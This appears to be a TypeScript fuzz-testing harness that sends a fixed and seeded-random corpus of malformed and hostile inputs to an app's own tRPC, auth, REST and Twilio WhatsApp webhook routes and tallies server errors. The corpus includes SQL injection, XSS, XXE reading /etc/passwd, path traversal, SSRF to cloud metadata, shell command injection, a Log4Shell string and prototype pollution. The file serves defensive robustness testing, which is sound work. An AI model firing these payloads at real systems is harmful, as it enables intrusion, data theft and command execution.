import { createHmac } from "node:crypto";
import { Agent, request } from "node:http";
import { appRouter } from "@waystation/api/root";

/** Requests that nobody sends in good faith, the same ones each time, and what a server answers to them. */

export type Route = "webhook" | "trpc" | "auth" | "rest" | "other";

export interface Attack {
  route: Route;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  /** Whether somebody who is signed in sends it. */
  isSignedIn?: boolean;
}

export interface Target {
  url: string;
  publicUrl: string;
  account: { sid: string; token: string; sender: string };
  /** Of an owner. */
  cookie: string;
}

export interface Report {
  /** How often each route gave each status; "closed" where it ended the connection instead. */
  counts: Record<string, Record<string, number>>;
  /** What got an answer of ours being at fault, or none. */
  failures: { status: string; attack: Attack }[];
}

const repeat = (text: string, times: number) => text.repeat(times);

/** Texts that have broken parsers, databases, pages and terminals. */
const TEXTS: string[] = [
  ...[
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\0",
    "\0\0a",
    "a\0b",
    "%00",
    "\\0",
    "\u200b",
    "\ufeff",
    "\u2028\u2029",
    "\u202eabc",
    "\ud800",
    "\udfff\ud800",
    "\uffff",
    "e\u0301",
    "𝒳".repeat(9),
    "👩‍👩‍👧‍👦",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "ﷺ".repeat(20),
    "İi̇ıI",
    "ﬀﬁ",
    "\x1b[31mred\x1b[0m",
    "\x07\x08",
    "\x7f\x80\x9f",
  ],
  ...[
    "undefined",
    "null",
    "NULL",
    "None",
    "nil",
    "NaN",
    "Infinity",
    "-Infinity",
    "true",
    "false",
    "0",
    "-0",
    "1e309",
    "-1",
    "0x10",
    "1_000",
    "9007199254740993",
    "18446744073709551616",
    "-9223372036854775809",
    "1.7976931348623157e308",
    "٣",
    "Ⅷ",
    "[]",
    "{}",
    "[object Object]",
    "function(){}",
  ],
  ...[
    "'",
    "''",
    '"',
    "`",
    "\\",
    "\\'",
    "';--",
    "' OR '1'='1",
    "1; DROP TABLE messages;--",
    "') OR 1=1--",
    "' UNION SELECT token FROM sessions--",
    "$1",
    "$$;select pg_sleep(9);$$",
    "1' AND (SELECT pg_sleep(9)) IS NULL--",
    "'||(select version())||'",
    "{1,2,3}",
    '{"a"',
    "\\x00",
    "E'\\\\x41'",
    "%",
    "_",
    "%%%",
    "a%' ESCAPE '!",
    "\\%",
    ":*",
    "a & b | !c",
    "<->",
    "'a':*",
  ],
  ...[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "$\u007b7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "{%import os%}",
    '<!--#exec cmd="id"-->',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "]]>",
    "<![CDATA[",
  ],
  ...[
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\0.png",
    "....//....//",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "file:///etc/passwd",
    "http://127.0.0.1:5432/",
    "http://[::1]/",
    "http://169.254.169.254/latest/meta-data/",
    "//evil.example",
    "\\\\evil.example",
    "https://evil.example@localhost",
    "http://2130706433/",
    "gopher://127.0.0.1",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "\nid",
    "%0aid",
  ],
  ...[
    "a\r\nSet-Cookie: x=1",
    "%0d%0aX: y",
    "=1+1",
    "+1",
    "@SUM(A1)",
    "-2+3",
    '=HYPERLINK("http://evil.example")',
    "%s%s%s%n",
    "%x%d%p",
    "%999999999d",
    "() { :; }; id",
    "$\u007bjndi:ldap://evil.example/a}",
    "(a+)+$",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    repeat("(", 500),
    repeat("[", 2_000),
    repeat('{"a":', 500),
  ],
  ...[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "valueOf",
    "then",
    "__proto__[x]",
    "constructor.prototype.x",
    "length",
    "-1.length",
    "$ne",
    "$where",
    "[$gt]",
  ],
  ...[
    "AC00000000000000000000000000000000",
    "SM00000000000000000000000000000000",
    "MG00000000000000000000000000000000",
    "whatsapp:",
    "whatsapp:+",
    "whatsapp:+1",
    "whatsapp:+999999999999999999999",
    "+14155550100",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "01a20879-6726-743d-830a",
    "2026-02-30",
    "9999-99-99T99:99:99Z",
    "-271821-04-20T00:00:00Z",
    "a@b",
    "a@b.c\r\nBcc: d@e.f",
    `${repeat("a", 250)}@example.org`,
    '"a b"@example.org',
    "a@[127.0.0.1]",
  ],
  ...[255, 256, 1_023, 4_096, 65_535, 70_000].map((length) => repeat("A", length)),
  ...[300, 5_000].map((length) => repeat("\u0000", length)),
  ...[300, 5_000].map((length) => repeat("é", length)),
];

/** The same, and what is no text. */
const VALUES: unknown[] = [
  ...TEXTS,
  ...[null, true, false, 0, -0, 1, -1, 1.5, 1e21, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308],
  ...[
    [],
    {},
    [[]],
    [null],
    [{}],
    ["a", 1],
    { a: { b: { c: 1 } } },
    { length: 1e9 },
    { toString: 1 },
    JSON.parse('{"then": 1}'),
  ],
  { constructor: { prototype: { polluted: 1 } } },
  JSON.parse('{"__proto__": {"polluted": 1}}'),
  Array.from({ length: 1_000 }, (_, index) => index),
  nested(200),
];

function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value };
  return value;
}

/** Numbers that come in the same order each time. */
export function dice(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const below = (end: number) => Math.floor(next() * end);
  return { below, one: <Item>(items: readonly Item[]) => items[below(items.length)] as Item };
}
type Dice = ReturnType<typeof dice>;

interface Procedure {
  path: string;
  isMutation: boolean;
  fields: string[];
}

const procedures: Procedure[] = Object.entries(
  appRouter._def.procedures as unknown as Record<
    string,
    { _def: { type: string; inputs: { shape?: Record<string, unknown> }[] } }
  >,
).map(([path, { _def }]) => ({
  path,
  isMutation: _def.type === "mutation",
  fields: Object.keys(_def.inputs[0]?.shape ?? {}),
}));
/** What would let the sender's own session or connection end. */
const HARMLESS = procedures.filter(({ path }) => !/^(team\.remove|session\.end)/.test(path));

/** Something that passes many a schema, by the field's name. */
function plausible(field: string): unknown {
  if (/Ids?$|^id$/.test(field)) return "01a20879-6726-743d-830a-18a0d31b3a8a";
  return (
    (
      {
        mode: "test",
        role: "member",
        limit: 10,
        body: "Hello",
        name: "Olga",
        password: "a password nobody guesses",
        since: null,
        configureWebhook: false,
        showsTyping: true,
        doing: "looking",
      } as Record<string, unknown>
    )[field] ?? "text"
  );
}

function call({ path, isMutation }: Procedure, input: unknown): Attack {
  const text = JSON.stringify(input) ?? "";
  const headers: Record<string, string> = { "content-type": "application/json" };
  return isMutation
    ? { route: "trpc", method: "POST", path: `/api/trpc/${path}`, headers, body: text, isSignedIn: true }
    : {
        route: "trpc",
        method: "GET",
        path: `/api/trpc/${path}?input=${escaped(text)}`,
        headers: {},
        isSignedIn: true,
      };
}

function escaped(text: string): string {
  return encodeURIComponent(text.toWellFormed()).slice(0, 12_000);
}

const AUTH = [
  "/sign-in/email",
  "/sign-out",
  "/change-password",
  "/list-sessions",
  "/revoke-session",
  "/revoke-other-sessions",
  "/get-session",
  "/sign-up/email",
  "/two-factor/verify",
  "/error",
  "/callback/x",
  "/reset-password/x",
];
const AUTH_FIELDS = [
  "email",
  "password",
  "newPassword",
  "currentPassword",
  "callbackURL",
  "rememberMe",
  "token",
  "code",
];
const REST = ["/connect", "/verify"];
const REST_ROOT = "/api/integrations/twilio-whatsapp";
const REST_FIELDS = ["mode", "accountSid", "authToken", "apiKeySid", "sender", "connectionId"];
const WEBHOOK = "/api/webhooks/twilio-whatsapp";
const WEBHOOK_FIELDS = [
  "AccountSid",
  "MessageSid",
  "SmsSid",
  "SmsMessageSid",
  "From",
  "To",
  "Body",
  "ProfileName",
  "WaId",
  "SmsStatus",
  "MessageStatus",
  "ErrorCode",
  "NumMedia",
  "MediaUrl0",
  "MediaContentType0",
  "Latitude",
  "ButtonText",
  "ListTitle",
  "OriginalRepliedMessageSid",
  "MessagingServiceSid",
  "ExternalUserId",
];
const JSON_TYPE = { "content-type": "application/json" };

/** Each nasty value at each place that takes one. */
export function* fixedAttacks(target: Pick<Target, "publicUrl" | "account">): Generator<Attack> {
  for (const procedure of HARMLESS)
    for (const value of VALUES) {
      yield call(procedure, value);
      for (const field of procedure.fields)
        yield call(procedure, {
          ...Object.fromEntries(procedure.fields.map((name) => [name, plausible(name)])),
          [field]: value,
        });
    }
  for (const field of WEBHOOK_FIELDS)
    for (const text of TEXTS) {
      yield webhook(target, { ...message(target, text.length), [field]: text });
      yield webhook(target, { ...message(target, text.length), [text || "empty"]: field });
    }
  for (const path of AUTH)
    for (const field of AUTH_FIELDS)
      for (const value of VALUES)
        yield {
          route: "auth",
          method: "POST",
          path: `/api/auth${path}`,
          headers: JSON_TYPE,
          body: JSON.stringify({ email: "olga@example.org", password: "wrong", [field]: value }),
        };
  for (const path of REST)
    for (const field of REST_FIELDS)
      for (const value of VALUES)
        yield {
          route: "rest",
          method: "POST",
          path: REST_ROOT + path,
          headers: JSON_TYPE,
          body: JSON.stringify({ mode: "test", accountSid: "AC", authToken: "x", [field]: value }),
          isSignedIn: true,
        };
  for (const text of TEXTS)
    for (const root of [
      "/",
      "/api/",
      "/api/trpc/",
      "/api/auth/",
      "/api/media/",
      "/join/",
      "/assets/",
      `${REST_ROOT}/`,
    ])
      yield {
        route: "other",
        method: "GET",
        path: root + escaped(text).slice(0, 4_000),
        headers: {},
        isSignedIn: true,
      };
}

/** One after the other, for ever, each made of what `seed` throws. */
export function* generatedAttacks(
  target: Pick<Target, "publicUrl" | "account">,
  seed: number,
): Generator<Attack, never> {
  const thrown = dice(seed);
  for (let count = 0; ; count++)
    switch (thrown.below(8)) {
      case 0:
      case 1:
      case 2:
        yield badCall(thrown);
        break;
      case 3:
      case 4:
        yield badWebhook(target, thrown, count);
        break;
      case 5:
        yield badJson(thrown, "auth", `/api/auth${thrown.one(AUTH)}`, AUTH_FIELDS);
        break;
      case 6:
        yield badJson(thrown, "rest", REST_ROOT + thrown.one(["", ...REST]), REST_FIELDS);
        break;
      default:
        yield {
          route: "other",
          method: thrown.one(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"]),
          path: `/${thrown.one(["", "api", "api/trpc", "api/auth", "api/media", "api/openapi.json", "assets", "healthz"])}/${escaped(badText(thrown)).slice(0, 2_000)}`,
          headers: badHeaders(thrown),
          isSignedIn: thrown.below(2) === 0,
        };
    }
}

function badText(thrown: Dice): string {
  const text = thrown.one(TEXTS);
  switch (thrown.below(5)) {
    case 0:
      return text;
    case 1:
      return text + thrown.one(TEXTS);
    case 2: {
      const at = thrown.below(text.length + 1);
      return text.slice(0, at) + String.fromCharCode(thrown.below(0x1_0000)) + text.slice(at);
    }
    case 3:
      return Array.from({ length: thrown.below(40) }, () => String.fromCharCode(thrown.below(0x1_0000))).join(
        "",
      );
    default:
      return Array.from({ length: thrown.below(40) }, () => String.fromCharCode(thrown.below(0x80))).join("");
  }
}

function badValue(thrown: Dice, depth = 3): unknown {
  switch (thrown.below(depth > 0 ? 6 : 3)) {
    case 0:
    case 1:
      return badText(thrown);
    case 2:
    case 3:
      return thrown.one(VALUES);
    case 4:
      return Array.from({ length: thrown.below(5) }, () => badValue(thrown, depth - 1));
    default:
      return Object.fromEntries(
        Array.from({ length: thrown.below(5) }, () => [badText(thrown), badValue(thrown, depth - 1)]),
      );
  }
}

function badFields(thrown: Dice, fields: readonly string[]): unknown {
  if (thrown.below(6) === 0) return badValue(thrown);
  const input: Record<string, unknown> = Object.fromEntries(fields.map((name) => [name, plausible(name)]));
  for (let changes = 1 + thrown.below(3); changes > 0; changes--)
    input[thrown.below(5) === 0 || fields.length === 0 ? badText(thrown) : thrown.one(fields)] =
      badValue(thrown);
  return input;
}

/** Cut off, stretched, or with a byte that does not belong there. */
function damaged(thrown: Dice, text: string): string | Buffer {
  switch (thrown.below(12)) {
    case 0:
      return text.slice(0, thrown.below(text.length + 1));
    case 1:
      return text + badText(thrown);
    case 2: {
      const bytes = Buffer.from(text);
      if (bytes.length > 0) bytes[thrown.below(bytes.length)] = thrown.below(256);
      return bytes;
    }
    default:
      return text;
  }
}

function badHeaders(thrown: Dice): Record<string, string> {
  const types = [
    "application/json",
    "application/json",
    "application/json",
    "application/json; charset=utf-16",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded",
    "application/octet-stream",
    "",
    "application/json;;;",
    "text/xml",
  ];
  const headers: Record<string, string> = { "content-type": thrown.one(types) };
  const printable = badText(thrown)
    .replace(/[^\x20-\x7e]/g, "")
    .slice(0, 500);
  if (thrown.below(4) === 0)
    headers[
      thrown.one([
        "origin",
        "host",
        "x-forwarded-for",
        "x-forwarded-host",
        "accept",
        "accept-encoding",
        "content-encoding",
        "authorization",
        "x-api-key",
        "range",
        "if-none-match",
        "last-event-id",
        "trpc-accept",
        "x-http-method-override",
      ])
    ] = printable;
  return headers;
}

function badCall(thrown: Dice): Attack {
  const procedure = thrown.one(HARMLESS);
  const attack = call(procedure, badFields(thrown, procedure.fields));
  if (thrown.below(10) === 0)
    attack.path = `/api/trpc/${Array.from({ length: 1 + thrown.below(14) }, () => thrown.one(HARMLESS).path).join()}?batch=1`;
  return {
    ...attack,
    method: thrown.below(20) === 0 ? thrown.one(["PUT", "DELETE", "PATCH", "POST"]) : attack.method,
    body: typeof attack.body === "string" ? damaged(thrown, attack.body) : attack.body,
    headers: thrown.below(10) === 0 ? badHeaders(thrown) : attack.headers,
  };
}

function badJson(thrown: Dice, route: Route, path: string, fields: string[]): Attack {
  return {
    route,
    method: thrown.one(["POST", "POST", "POST", "POST", "GET", "DELETE", "PUT"]),
    path: thrown.below(8) === 0 ? `${path}?${escaped(badText(thrown)).slice(0, 2_000)}=1` : path,
    headers: thrown.below(6) === 0 ? badHeaders(thrown) : JSON_TYPE,
    body: damaged(thrown, JSON.stringify(badFields(thrown, fields)) ?? ""),
    isSignedIn: route === "rest",
  };
}

type Signed = Pick<Target, "publicUrl" | "account">;

function message({ account }: Signed, number: number): Record<string, string> {
  const sid = `SM${number.toString(16).padStart(32, "0")}`;
  return {
    AccountSid: account.sid,
    MessageSid: sid,
    From: "whatsapp:+4915112345678",
    To: account.sender,
    Body: "Hello",
    SmsStatus: "received",
    NumMedia: "0",
  };
}

/** Signed as Twilio would: what is wrong with it is for the reader to find, not for the door. */
function webhook({ publicUrl, account }: Signed, params: Record<string, string>): Attack {
  const body = new URLSearchParams(params).toString();
  const pairs = [...new URLSearchParams(body)]
    .toSorted(([a], [b]) => (a < b ? -1 : 1))
    .flat()
    .join("");
  const signature = createHmac("sha1", account.token)
    .update(publicUrl + WEBHOOK + pairs)
    .digest("base64");
  return {
    route: "webhook",
    method: "POST",
    path: WEBHOOK,
    headers: { "content-type": "application/x-www-form-urlencoded", "x-twilio-signature": signature },
    body,
  };
}

function badWebhook(target: Signed, thrown: Dice, count: number): Attack {
  const params = message(target, count);
  for (let changes = 1 + thrown.below(4); changes > 0; changes--)
    params[thrown.below(4) === 0 ? badText(thrown) || "empty" : thrown.one(WEBHOOK_FIELDS)] = badText(thrown);
  const attack = webhook(target, params);
  if (thrown.below(4) > 0) return attack;
  return {
    ...attack,
    path: thrown.one([
      WEBHOOK,
      `${WEBHOOK}/status/x`,
      `${WEBHOOK}/`,
      `${WEBHOOK}?a=${escaped(badText(thrown)).slice(0, 500)}`,
    ]),
    headers: thrown.below(3) === 0 ? badHeaders(thrown) : attack.headers,
    body: damaged(thrown, String(attack.body)),
  };
}

/** Sends them, so many at once, and counts what comes back. */
export async function assault(
  target: Target,
  attacks: Iterable<Attack>,
  { parallel = 16 } = {},
): Promise<Report> {
  const agent = new Agent({ keepAlive: true, maxSockets: parallel });
  const report: Report = { counts: {}, failures: [] };
  const queue = attacks[Symbol.iterator]();
  const worker = async () => {
    for (let next = queue.next(); !next.done; next = queue.next()) {
      const status = await send(target, next.value, agent);
      const { route } = next.value;
      report.counts[route] = { ...report.counts[route], [status]: (report.counts[route]?.[status] ?? 0) + 1 };
      if (/^5|^no answer/.test(status) && report.failures.length < 20)
        report.failures.push({ status, attack: next.value });
    }
  };
  await Promise.all(Array.from({ length: parallel }, worker));
  agent.destroy();
  return report;
}

const PATIENCE_MS = 60_000;

function send(target: Target, attack: Attack, agent: Agent): Promise<string> {
  return new Promise((resolve) => {
    const { method, path, headers, body, isSignedIn } = attack;
    const asked = request(target.url, {
      agent,
      method,
      path,
      headers: isSignedIn ? { ...headers, cookie: target.cookie } : headers,
      timeout: PATIENCE_MS,
    });
    asked.once("response", (response) => {
      const status = String(response.statusCode);
      resolve(status);
      if (String(response.headers["content-type"]).startsWith("text/event-stream")) response.destroy();
      else response.resume().on("error", () => {});
    });
    // Whoever sends too much is hung up on.
    asked.on("error", () => resolve("closed"));
    asked.once("timeout", () => {
      resolve("no answer");
      asked.destroy();
    });
    asked.end(body);
  });
}
